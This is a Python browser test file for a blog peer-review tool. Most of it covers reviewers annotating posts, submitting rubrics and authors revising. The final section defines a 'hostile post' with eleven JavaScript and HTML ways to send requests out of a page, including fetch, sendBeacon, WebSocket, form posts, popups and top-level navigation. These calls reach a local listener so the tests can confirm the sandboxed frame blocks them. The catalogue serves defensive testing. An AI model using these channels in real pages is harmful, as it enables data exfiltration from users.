"""The whole story in a real browser, and a hostile post that finds no way out of its frame."""

from __future__ import annotations

import csv
import io
import re
import threading
from collections.abc import Iterator
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from typing import Any, ClassVar

import pytest
from typer.testing import CliRunner

import blogkit
from blogkit.review.folder import ReviewFolder
from blogkit.review.posts import add_revision, prepare_post
from blogkit.review.record import read_record
from blogkit.review.roster import read_roster
from tests.browser import browser as launched
from tests.browser import eventually, steady_box
from tests.review.running import chromium, running
from tests.review.school import key, open_school
from tests.review.sites import write_site

pytestmark = [pytest.mark.slow, pytest.mark.skipif(chromium() is None, reason="Chromium is not installed")]


@pytest.fixture
def browser() -> Iterator[Any]:
    with launched() as one:
        yield one


def sign_in(browser: Any, link: str, errors: list[str]) -> Any:
    """A browser of somebody's own, signed in; what goes wrong in its pages is noted."""
    page = browser.new_context(viewport={"width": 1280, "height": 900}).new_page()
    page.on("pageerror", lambda error: errors.append(str(error)))
    page.on("console", lambda message: errors.append(message.text) if message.type == "error" else None)
    page.goto(link)
    page.get_by_role("button", name="Sign in").click()
    page.wait_for_url("**/home")
    return page


def comment(page: Any, text: str, kind: str = "Question") -> None:
    """Fills in the composer that is open."""
    page.locator("#composer textarea").fill(text)
    page.get_by_role("radio", name=kind).check()
    before = page.locator(".thread").count()
    page.locator("#composer button.primary").click()
    page.locator(".thread").nth(before).wait_for()


def until_open(frame: Any) -> None:
    """Waits until the post's frame listens to the pointer and the keys, and takes comments."""
    frame.locator("body[data-review=open]").wait_for()


def point_at(frame: Any, target: Any) -> None:
    """Asks for a comment on a place, by the tool that the frame offers where the pointer is until one scrolls."""
    from playwright.sync_api import TimeoutError as NotYet

    def asked() -> bool:
        steady_box(target)
        target.page.mouse.move(1, 1)  # outside, so that it enters again
        target.hover()
        try:
            frame.locator("#review-tool").click(timeout=5000)
        except NotYet:
            return False
        return True

    until_open(frame)
    eventually(target.page, asked, "the frame offers no tool where the pointer is")


def wake_figure(frame: Any, drawing: Any) -> None:
    """Touches a figure of the post, and waits until it lives and nothing moves any more."""
    until_open(frame)
    steady_box(drawing)
    drawing.page.mouse.move(1, 1)
    drawing.hover()
    frame.locator(".bk-figure[data-state=awake]").first.wait_for()


def steady_texts(locator: Any) -> list[str]:
    """Texts, once they no longer change."""
    texts: list[list[str]] = [[]]

    def same() -> bool:
        texts.append(locator.all_inner_texts())
        return texts[-1] == texts[-2]

    eventually(locator.page, same)
    return texts[-1]


def walk_to(page: Any, frame: Any, selector: str) -> None:
    """Presses j until the reader's place in the post is such an element."""
    until_open(frame)
    page.locator("#post").focus()
    for _ in range(60):
        page.keyboard.press("j")
        if frame.locator(f":is({selector}).review-current").count():
            return
    raise AssertionError(f"no {selector} was reached by keyboard")


def barriers(page: Any) -> list[str]:
    """What axe-core finds wrong with the app's page, light and dark; the post in its frame is judged by `check`."""
    source = (Path(blogkit.__file__).parent / "check" / "vendor" / "axe-core" / "axe.min.js").read_text("utf-8")
    found: list[str] = []
    for scheme in ("dark", "light"):
        page.emulate_media(color_scheme=scheme)
        page.evaluate(source)
        found += page.evaluate(
            "() => axe.run(document, {iframes: false, elementRef: false}).then(found => found.violations.map(one =>"
            " one.id + ': ' + one.nodes.map(node => node.target.join(' ')).join(', ')))"
        )
    return found


def command(*arguments: str) -> str:
    from blogkit.cli import app, reviews

    assert reviews.review
    done = CliRunner().invoke(app, ["review", *arguments], catch_exceptions=False)
    assert done.exit_code == 0, done.output
    return done.stdout


def test_assign_sign_in_annotate_submit_revise_answer_close_report(
    tmp_path: Path, browser: Any, monkeypatch: pytest.MonkeyPatch
) -> None:
    site = tmp_path / "site"
    site.mkdir()
    monkeypatch.chdir(site)
    write_site(site)
    roster = "name,email,role,project\nAda Lovelace,ada@uni.example,,alpha\nCy Twombly,cy@uni.example,,beta\n"
    (site / "roster.csv").write_text(roster + "Tess Taylor,tess@uni.example,staff,\n")
    folder = ReviewFolder(root=site / ".blogkit" / "review")
    (site / "roster.csv").write_text(roster + "Dee Dee,dee@uni.example,,gamma\nTess Taylor,tess@uni.example,staff,\n")
    command("assign", "--roster", "roster.csv", "--seed", "3", "--reviews", "1")
    command("assign", "--publish")
    assert "alpha: revision" in command("revise")
    errors: list[str] = []
    with running(folder) as server:
        links = {
            row["name"].split()[0]: row["link"]
            for row in csv.DictReader(io.StringIO(command("links", "--url", server.app)))
        }
        drafted = command("report")
        reader = "Cy" if "Cy Twombly, alpha" in drafted else "Dee"

        # a reader annotates a passage, by the mouse
        page = sign_in(browser, links[reader], errors)
        page.get_by_role("link", name="What width does").click()
        frame = page.frame_locator("#post")
        passage = frame.get_by_text("The second paragraph says")
        until_open(frame)
        box = steady_box(passage)
        page.mouse.move(box["x"] + 2, box["y"] + 12)
        page.mouse.down()
        page.mouse.move(box["x"] + 330, box["y"] + 12, steps=6)
        page.mouse.up()
        page.locator("#composer").wait_for()
        assert "second paragraph says" in page.locator("#composer .quote").inner_text()
        comment(page, "Why *ten* percent, and not $p = 0.2$?", "Must fix")
        assert page.locator(".thread math").count() == 1

        # a point of the living chart
        drawing = frame.locator(".bk-drawing").first
        wake_figure(frame, drawing)
        spot = frame.locator(".bk-awake path[aria-roledescription], .bk-awake .mark-symbol path").first
        spot.wait_for()
        symbols = frame.locator(".bk-awake .mark-symbol.role-mark path")
        point = steady_box(symbols.nth(5))
        page.mouse.click(point["x"] + point["width"] / 2, point["y"] + point["height"] / 2)
        page.locator("#composer fieldset").wait_for()
        quote = page.locator("#composer .quote").inner_text()
        assert re.match(
            r"Figure 1, optimizer adam, step 50: loss 0\.28 · run run0 \(optimizer adam, seed 0\)", quote
        ), quote
        comment(page, "This point is oddly low.")

        # a cell, an equation, and the post as a whole; the equation by the keyboard alone
        point_at(frame, frame.locator("td", has_text="0.410"))
        assert page.locator("#composer .quote").inner_text() == "sgd / error: 0.410"
        comment(page, "Is this a mean?")
        walk_to(page, frame, "math")
        page.keyboard.press("Enter")
        page.locator("#composer").wait_for()
        assert "λ" in page.locator("#composer .quote").inner_text()
        comment(page, "Say what $\\lambda$ is.", "Suggestion")
        page.get_by_role("button", name="Comment on the whole post").click()
        comment(page, "A pleasure to read.", "Praise")
        assert page.locator(".thread").count() == 5

        assert barriers(page) == []

        # the rubric saves itself, and is submitted
        page.get_by_role("tab", name="Rubric").click()
        fields = page.locator("[data-points]")
        for number in range(fields.count()):
            fields.nth(number).fill("8")
        page.locator("[data-summary]").fill("Sound, and clear.")
        page.get_by_text("Saved", exact=True).wait_for()
        page.reload()
        page.get_by_role("tab", name="Rubric").click()
        assert page.locator("[data-points]").first.input_value() == "8"
        page.get_by_role("button", name="Submit the review").click()
        page.get_by_text("The authors see it now").wait_for()
        assert barriers(page) == []

        # the authors revise: a new run, an edit, a deleted paragraph; and answer
        write_site(site, value=0.336, discussion="We left the limitations out.")
        source = site / "projects" / "alpha" / "index.qmd"
        source.write_text(source.read_text().replace("The second paragraph says", "This second paragraph says"))
        from blogkit.config import load_site
        from blogkit.render import render_site

        render_site(load_site(site), engine="pandoc")
        assert "number 2" in command("revise")
        author = sign_in(browser, links["Ada"], errors)
        author.goto(f"{server.app}/read/alpha")
        author.locator(".thread").first.wait_for()
        assert author.get_by_text("Cy Twombly").count() + author.get_by_text("Dee Dee").count() == 0
        thread = author.locator(".thread", has_text="oddly low")
        assert "was 0.28, now 0.336" in thread.inner_text()
        thread.get_by_role("button", name="Answer").click()
        thread.get_by_label("Commit").fill("98b85a5")
        thread.get_by_label("Answer", exact=True).fill("We ran it again.")
        thread.get_by_role("button", name="Send").click()
        author.get_by_text("Done in 98b85a5").wait_for()

        # the reader sees it on the new render, opens it, and closes it
        page.reload()
        thread = page.locator(".thread", has_text="oddly low")
        thread.get_by_text("We ran it again.").wait_for()
        thread.get_by_role("button", name=re.compile("Show comment")).click()
        frame.locator(".pin.active").wait_for()
        thread.get_by_role("button", name="Close").click()
        thread.get_by_text("closed").wait_for()
        assert barriers(page) == []
        moved = page.locator(".thread", has_text="ten percent")
        assert "not in the newest revision" not in moved.inner_text()

        # three places are doubtful in the next revision: the reader is asked about each, once
        text = source.read_text().replace(
            "This second paragraph says that label noise of", "We find below that label noise of"
        )
        text = text.replace("L(w) = w^2 + \\lambda w", "\\rho = 3")
        source.write_text(text.replace("| sgd       | 0.410 |", "| sgd       | 0.410 |\n| sgd       | 0.510 |"))
        render_site(load_site(site), engine="pandoc")
        assert "number 3" in command("revise")
        page.reload()
        asked = page.locator(".thread", has_text="Moved? Please check.")
        page.locator(".thread").first.wait_for()
        assert asked.count() == 3, page.locator("#panel").inner_text()
        for words, answer in (
            ("ten percent", "It is here"),
            ("Is this a mean?", "It is here"),
            ("Say what", "It is gone"),
        ):
            asked.filter(has_text=words).get_by_role("button", name=answer).click()
            asked.filter(has_text=words).wait_for(state="detached")
        page.reload()
        page.locator(".thread").first.wait_for()
        assert asked.count() == 0
        assert "not in the newest revision" in page.locator(".thread", has_text="Say what").inner_text()
        assert frame.locator(".pin[aria-label^='Comment']").count() == 2  # of the mark and the cell, not the equation

        # what was said to be gone can be placed again, by hand
        gone = page.locator(".thread", has_text="Say what")
        gone.get_by_role("button", name="Place it again").click()
        assert "Where does comment" in page.locator("#placer").inner_text()
        point_at(frame, frame.locator("td", has_text="0.280"))
        assert page.locator("#placer .quote").inner_text() == "adam / error: 0.280"
        assert barriers(page) == []
        page.locator("#placer").get_by_role("button", name="It is here").click()
        gone.filter(has_text="not in the newest revision").wait_for(state="detached")
        assert page.locator("#placer").count() == 0 and page.locator("#composer").count() == 0
        page.reload()
        page.locator(".thread").first.wait_for()
        frame.locator(".pin[aria-label^='Comment']").nth(2).wait_for()
        assert frame.locator(".pin[aria-label^='Comment']").count() == 3

        # staff see it through
        staff = sign_in(browser, links["Tess"], errors)
        assert barriers(staff) == []
        staff.goto(f"{server.app}/staff")
        assert barriers(staff) == []
        assert "1 of 6 submitted" in re.sub(r"\s+", " ", staff.locator(".numbers").inner_text())
        staff.set_viewport_size({"width": 390, "height": 844})
        wider = "() => [...document.querySelectorAll('html, .scroll')].filter(one => one.scrollWidth > one.clientWidth)"
        assert staff.evaluate(f"({wider})().length") == 0, "nothing is to be scrolled sideways on a phone"
        assert barriers(staff) == []
        report = command("report", "--format", "csv").splitlines()
        ada = next(dict(zip(report[0].split(","), row.split(","), strict=True)) for row in report if "ada@" in row)
        assert ada["score"] == "40" and ada["reviews"] == "1"
    assert [error for error in errors if "favicon" not in error] == []


def test_series_states_and_regions_by_hand_marks_by_keyboard_two_tabs_and_a_server_that_is_away(
    tmp_path: Path, browser: Any, monkeypatch: pytest.MonkeyPatch
) -> None:
    site = tmp_path / "site"
    site.mkdir()
    monkeypatch.chdir(site)
    write_site(site)
    roster = "name,email,role,project\nAda Lovelace,ada@uni.example,,alpha\nCy Twombly,cy@uni.example,,\n"
    (site / "roster.csv").write_text(roster)
    folder = ReviewFolder(root=site / ".blogkit" / "review")
    command("assign", "--roster", "roster.csv", "--reviews", "1", "--staff", "0", "--publish")
    command("revise")
    with running(folder) as server:
        page = sign_in(browser, server.link("cy"), [])
        page.goto(f"{server.app}/read/alpha")
        frame = page.frame_locator("#post")
        figure = frame.locator("#fig-loss .bk-figure, .bk-figure").first
        drawing = figure.locator(".bk-drawing")
        wake_figure(frame, drawing)
        axis = figure.locator(".bk-awake svg .role-axis-label text")
        before = axis.all_inner_texts()

        # the view is moved, and kept with a comment on the chart as it stands
        box = steady_box(drawing)
        middle = (box["x"] + box["width"] * 0.4, box["y"] + box["height"] * 0.5)
        page.mouse.move(*middle)
        page.mouse.wheel(0, -400)
        eventually(page, lambda: axis.all_inner_texts() != before, "the wheel moved nothing")
        zoomed = steady_texts(axis)
        page.mouse.click(middle[0], middle[1])
        page.locator("#composer").wait_for()
        page.get_by_role("radio", name=re.compile("the chart as it stands")).check()
        comment(page, "Seen close, the two cross.")

        # a series
        page.mouse.click(*middle)
        page.locator("#composer").wait_for()
        page.get_by_role("radio", name=re.compile("the series optimizer")).check()
        assert "series optimizer" in page.locator("#composer .quote").inner_text()
        comment(page, "Why this optimiser?")

        # a region of a picture
        picture = frame.locator("#fig-sketch [data-review-image]").first
        page.get_by_role("button", name="Mark a region of a picture").click()
        frame.locator(".review-picking").wait_for()
        box = steady_box(picture)
        page.mouse.move(box["x"] + box["width"] * 0.25, box["y"] + box["height"] * 0.5)
        page.mouse.down()
        page.mouse.move(box["x"] + box["width"] * 0.75, box["y"] + box["height"], steps=4)
        page.mouse.up()
        page.locator("#composer").wait_for()
        assert "a region" in page.locator("#composer .quote").inner_text()
        comment(page, "What bends here?")
        pin = frame.locator(".pin").last.bounding_box()
        assert abs(pin["width"] - box["width"] * 0.5) < 12 and abs(pin["height"] - box["height"] * 0.5) < 12

        # a mark of the chart and a sentence, with no pointer at all
        page.reload()
        frame.locator("#fig-loss").wait_for()
        said = page.locator("#saved")
        walk_to(page, frame, "[data-review-chart]")
        frame.locator(".bk-figure[data-state=awake]").wait_for()
        page.keyboard.press("ArrowRight")
        eventually(page, lambda: bool(re.search(r"optimizer adam, step \d+: loss", said.inner_text())), said.inner_text)
        page.keyboard.press("Enter")
        page.locator("#composer textarea").wait_for()
        page.keyboard.type("By keyboard.")
        page.keyboard.press("Control+Enter")
        page.locator(".thread").nth(3).wait_for()
        page.locator("#post").focus()
        page.keyboard.press("j")
        page.keyboard.press("j")
        page.keyboard.press("s")
        page.keyboard.press("Enter")
        page.locator("#composer textarea").wait_for()
        page.keyboard.press("Escape")
        assert page.locator("#composer").count() == 0

        # and a region of a picture
        page.get_by_role("button", name="Mark a region of a picture").focus()
        page.keyboard.press("Enter")
        frame.locator("#review-layer .region.by-keys").wait_for()
        page.get_by_text("Arrow keys move").wait_for()
        for keys in ("ArrowRight", "ArrowRight", "Shift+ArrowDown"):
            page.keyboard.press(keys)
        page.get_by_text("30 % from the left, 25 % from the top, 50 % wide, 52.5 % high").wait_for()
        page.keyboard.press("Enter")
        page.locator("#composer textarea").wait_for()
        page.keyboard.type("This bend, too.")
        page.keyboard.press("Control+Enter")
        page.locator(".thread").nth(4).wait_for()
        view = page.request.get(f"{server.app}/api/posts/alpha").json()
        kept = [one["value"] for thread in view["threads"] for one in thread["made"] if "value" in one]
        assert "xywh=percent:30,25,50,52.5" in kept

        # opening the comment on the view shows the view again
        assert axis.all_inner_texts() != zoomed
        page.locator(".thread", has_text="the two cross").get_by_role("button", name=re.compile("Show")).click()
        eventually(page, lambda: bool(axis.all_inner_texts() == zoomed), axis.all_inner_texts)

        # two devices: the second to save gets a message, and nothing is overwritten
        page.get_by_role("tab", name="Rubric").click()
        other = sign_in(browser, server.link("cy"), [])
        other.goto(page.url)
        other.get_by_role("tab", name="Rubric").click()
        other.locator("[data-points]").first.fill("3")
        other.get_by_text("Saved", exact=True).wait_for()
        page.locator("[data-points]").first.fill("5")
        page.get_by_text("Another tab or device saved").wait_for()
        assert page.locator("[data-points]").first.input_value() == "5"
        page.get_by_role("button", name="Keep mine").click()
        page.get_by_text("Saved", exact=True).wait_for()
        other.close()

        # the server is away: what is written waits, over a reload too, and arrives once
        server.end()
        page.locator("[data-points]").first.fill("6")
        page.get_by_text("The server does not answer. One change is kept here").wait_for()
        page.get_by_role("tab", name="Comments").click()
        page.get_by_role("button", name="Comment on the whole post").click()
        page.locator("#composer textarea").fill("Written while the server was away.")
        page.locator("#composer button.primary").click()
        page.get_by_text("2 changes are kept here").wait_for()
        server.start()
        page.get_by_text("Written while the server was away.").wait_for()
        page.reload()
        page.get_by_role("tab", name="Rubric").click()
        assert page.locator("[data-points]").first.input_value() == "6"
        page.get_by_role("tab", name="Comments").click()
        assert page.locator(".thread", has_text="the server was away").count() == 1
        page.get_by_role("tab", name="Rubric").click()
        for number in range(page.locator("[data-points]").count()):
            page.locator("[data-points]").nth(number).fill("6")
        page.get_by_role("button", name="Submit the review").click()
        page.get_by_text("The authors see it now").wait_for()
    events = read_record(Path(command("export", str(tmp_path / "all.jsonl")) and str(tmp_path / "all.jsonl")))
    written = [event.text for event in events if event.text]
    assert len(written) == len(set(written)) == 6


# --- the hostile post -----------------------------------------------------------------------------------------------

MAKE = "const make = (name, facts, into) => into.append(Object.assign(document.createElement(name), facts));"
WAYS = {
    "fetch": "fetch(T + 'fetch', {mode: 'no-cors'}).catch(() => {});",
    "image": "new Image().src = T + 'image';",
    "beacon": "navigator.sendBeacon(T + 'beacon', 'x');",
    "css": "make('style', {textContent: `body{background:url(${T}css)}`}, document.head);",
    "prefetch": "make('link', {rel: 'prefetch', href: T + 'prefetch'}, document.head);",
    "script": "make('script', {src: T + 'script'}, document.head);",
    "frame": "make('iframe', {src: T + 'frame'}, document.body);",
    "websocket": "new WebSocket(T.replace('http', 'ws') + 'websocket');",
    "form": "make('iframe', {name: 'sink'}, document.body);"
    " make('form', {id: 'leak', method: 'post', action: T + 'form', target: 'sink'}, document.body); leak.submit();",
    "popup": "window.open(T + 'popup');",
    "navigation": "const go = () => { try { top.location = T + 'navigation'; } catch { }"
    " location = T + 'navigation'; };"
    " setTimeout(go, 1500);",
}


class Listener(BaseHTTPRequestHandler):
    """Notes every request that reaches it."""

    heard: ClassVar[set[str]]

    def do_GET(self) -> None:
        self.heard.add(self.path.strip("/").split("?")[0])
        self.send_response(200)
        self.send_header("Access-Control-Allow-Origin", "*")
        self.end_headers()

    def do_POST(self) -> None:
        self.do_GET()

    def log_message(self, format: str, *arguments: Any) -> None:
        """Quiet."""


@pytest.fixture
def listener() -> Iterator[tuple[str, set[str]]]:
    Listener.heard = set()
    server = ThreadingHTTPServer(("127.0.0.1", 0), Listener)
    thread = threading.Thread(target=server.serve_forever, daemon=True)
    thread.start()
    yield f"http://127.0.0.1:{server.server_port}/", Listener.heard
    server.shutdown()
    server.server_close()
    thread.join()


def hostile_page(target: str) -> str:
    """A post that tries each way out; the navigation last, since it ends the rest."""
    scripts = "".join(
        f"<script>try {{ const T = {target!r}; {MAKE} {code} }} catch {{ }}</script>" for code in WAYS.values()
    )
    static = (
        f'<link rel="prefetch" href="{target}prefetch"><link rel="dns-prefetch" href="{target}">'
        f'<img src="{target}image"><meta http-equiv="refresh" content="2;url={target}navigation">'
        f'<iframe src="{target}frame"></iframe><p style="background:url({target}css)">x</p>'
        f'<script src="{target}script"></script>'
    )
    return f"<!DOCTYPE html><html><head></head><body><main><p>Hello.</p>{static}</main>{scripts}</body></html>"


def test_the_hostile_post_gets_out_eleven_ways_where_nothing_holds_it(
    tmp_path: Path, browser: Any, listener: tuple[str, set[str]]
) -> None:
    target, heard = listener
    (tmp_path / "hostile.html").write_text(hostile_page(target))
    page = browser.new_page()
    page.goto((tmp_path / "hostile.html").as_uri(), wait_until="commit")
    eventually(page, lambda: set(WAYS) <= heard, lambda: f"only {heard}: the next test would prove nothing")


@pytest.mark.parametrize("custom", [False, True], ids=["declarative", "custom scripts"])
def test_a_hostile_post_reaches_no_listener_from_its_frame(
    tmp_path: Path, browser: Any, listener: tuple[str, set[str]], custom: bool
) -> None:
    target, heard = listener
    folder = open_school(tmp_path)
    site = tmp_path / "hostile"
    site.mkdir()
    (site / "index.html").write_text(hostile_page(target))
    roster = read_roster(folder.roster, folder.secret())
    prepared = prepare_post("alpha", site / "index.html", site, roster, custom_scripts=custom)
    add_revision(folder, prepared, scripts=custom)
    assert ("sendBeacon" in prepared.html) == custom
    assert key(folder, "cy")
    with running(folder) as server:
        page = sign_in(browser, server.link("cy"), [])
        opened: list[Any] = []
        page.context.on("page", lambda one: opened.append(one))
        page.goto(f"{server.app}/read/alpha")
        page.frame_locator("#post").get_by_text("Hello.").wait_for()
        page.locator("#panel .tabs").wait_for()
        page.wait_for_timeout(4000)  # the last way out is tried after two seconds
        assert page.url == f"{server.app}/read/alpha", "the frame must not take the page away"
        assert opened == []
    assert heard == set()
